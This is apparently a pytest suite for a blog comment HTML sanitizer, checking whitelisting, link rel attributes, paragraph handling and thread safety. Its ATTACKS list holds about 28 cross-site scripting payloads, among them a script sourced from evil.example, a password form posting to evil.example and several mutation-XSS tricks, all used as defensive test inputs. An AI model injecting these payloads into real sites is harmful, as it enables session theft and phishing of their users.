"""The sanitizer: everything a reader can type comes out as whitelisted, valid HTML."""

import re
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest

from comments.sanitize import ALLOWED_TAGS, allowed_tags_help, sanitize_comment

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)" style="color:red">x</a>',
    '<q cite="javascript:alert(1)">x</q>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "<scr<script>ipt>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<!--<img src=x onerror=alert(1)>-->",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<object data=javascript:alert(1)></object>",
    "<textarea></textarea><script>alert(1)</script>",
    "<b onmouseover=alert(1)>x</b>",
    '<abbr title="x" onfocus="alert(1)" tabindex=1>x</abbr>',
    "<a href=\"https://example.org\"\nonmouseover='alert(1)'>x</a>",
]

# Tags and attributes that may appear in the output: the reader's whitelist, plus the
# paragraphs, line breaks and link rel the sanitizer adds itself.
OUTPUT_TAGS = {tag: set(attrs) for tag, attrs in ALLOWED_TAGS.items()} | {"p": set(), "br": set()}
OUTPUT_TAGS["a"] = OUTPUT_TAGS["a"] | {"rel"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.open = []
        self.errors = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag != "br":
            if tag in ("p", "blockquote") and "p" in self.open:
                self.errors.append(f"<{tag}> inside <p>")
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open[-1] != tag:
            self.errors.append(f"</{tag}> does not close {self.open[-1:]}")
        else:
            self.open.pop()


def parse(html):
    collector = _Collector()
    collector.feed(html)
    collector.close()
    assert not collector.open, f"unclosed tags {collector.open} in {html!r}"
    assert not collector.errors, f"{collector.errors} in {html!r}"
    return collector.tags


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_leave_only_whitelisted_markup(attack):
    html = sanitize_comment(attack)
    for tag, attrs in parse(html):
        assert tag in OUTPUT_TAGS, f"<{tag}> got through: {html!r}"
        assert set(attrs) <= OUTPUT_TAGS[tag], f"attributes {attrs} got through: {html!r}"
        for name in ("href", "cite"):
            if name in attrs:
                assert re.match(r"(https?|mailto):", attrs[name]), html


def test_script_and_style_are_dropped_with_their_content():
    html = sanitize_comment("Before<script>alert('x')</script> <style>p{}</style>after")
    assert "alert" not in html
    assert "p{}" not in html
    assert html == "<p>Before after</p>"


def test_other_disallowed_tags_are_stripped_and_their_text_kept():
    assert sanitize_comment("<div><span>kept text</span></div>") == "<p>kept text</p>"


def test_every_whitelisted_tag_and_attribute_survives():
    raw = (
        '<a href="https://example.org/x" title="T">a</a> <abbr title="A">abbr</abbr> '
        '<acronym title="N">n</acronym> <b>b</b> <cite>c</cite> <code>x = 1</code> '
        '<del datetime="2024-01-01">d</del> <em>e</em> <i>i</i> '
        '<q cite="https://example.org">q</q> '
        "<strike>s</strike> <strong>s</strong>"
    )
    html = sanitize_comment(raw)
    found = {tag: set(attrs) for tag, attrs in parse(html)}
    for tag, attrs in ALLOWED_TAGS.items():
        if tag == "blockquote":
            continue
        assert tag in found, tag
        assert set(attrs) <= found[tag], (tag, found[tag])
    assert sanitize_comment('<blockquote cite="https://example.org">q</blockquote>') == (
        '<blockquote cite="https://example.org">q</blockquote>'
    )


@pytest.mark.parametrize(
    "href", ["https://example.org/", "http://example.org/a?b=c&d=e", "mailto:desk@example.org"]
)
def test_links_keep_safe_urls_and_get_nofollow_ugc(href):
    html = sanitize_comment(f'<a href="{href}" rel="author" target="_blank">x</a>')
    [(tag, attrs)] = parse(html)[1:]
    assert tag == "a"
    assert attrs == {"href": href, "rel": "nofollow ugc"}


def test_links_with_other_schemes_lose_their_href_but_keep_text_and_rel():
    assert sanitize_comment('<a href="ftp://example.org/">files</a>') == (
        '<p><a rel="nofollow ugc">files</a></p>'
    )


def test_line_breaks_become_paragraphs_and_br():
    html = sanitize_comment("First line\nsecond line\n\nNew paragraph\r\n\r\nThird")
    assert html == "<p>First line<br>second line</p>\n\n<p>New paragraph</p>\n\n<p>Third</p>"


def test_blockquote_is_never_wrapped_in_a_paragraph():
    html = sanitize_comment("<blockquote>They said this.</blockquote>\n\nAnd I reply.")
    assert "<p><blockquote>" not in html
    assert html.startswith("<blockquote>They said this.</blockquote>")
    assert html.endswith("<p>And I reply.</p>")
    parse(html)


def test_blockquote_in_the_middle_of_a_paragraph_stays_valid():
    parse(sanitize_comment("Quoting: <blockquote>one\n\ntwo</blockquote> and more"))


def test_formatting_across_a_paragraph_break_is_split_cleanly():
    html = sanitize_comment("<em>one\n\ntwo</em>")
    assert html == "<p><em>one</em></p>\n\n<p><em>two</em></p>"


def test_text_that_looks_like_markup_is_escaped_not_lost():
    assert sanitize_comment("x < y && y > z") == "<p>x &lt; y &amp;&amp; y &gt; z</p>"
    assert sanitize_comment("I <3 this") == "<p>I &lt;3 this</p>"


def test_unclosed_tags_are_closed():
    html = sanitize_comment("<b>bold <em>both")
    parse(html)
    assert html == "<p><b>bold <em>both</em></b></p>"


def test_blank_input_gives_empty_html():
    assert sanitize_comment(" \n\n \t ") == ""


def test_allowed_tags_help_is_generated_from_the_whitelist():
    help_text = allowed_tags_help()
    assert help_text == (
        '<a href="" title=""> <abbr title=""> <acronym title=""> <b> <blockquote cite=""> '
        '<cite> <code> <del datetime=""> <em> <i> <q cite=""> <strike> <strong>'
    )
    for tag in ALLOWED_TAGS:
        assert f"<{tag}" in help_text


def test_sanitizing_from_many_threads_at_once_gives_the_same_html():
    """bleach's Cleaner is not thread-safe; threaded app servers sanitize concurrently."""
    inputs = [
        f"<b>bold {i}</b>\n\n<blockquote>q{i} <em>e</em></blockquote><script>x</script> tail "
        * (1 + i % 7)
        for i in range(200)
    ]
    expected = [sanitize_comment(text) for text in inputs]
    with ThreadPoolExecutor(max_workers=8) as pool:
        for _ in range(2):
            assert list(pool.map(sanitize_comment, inputs)) == expected
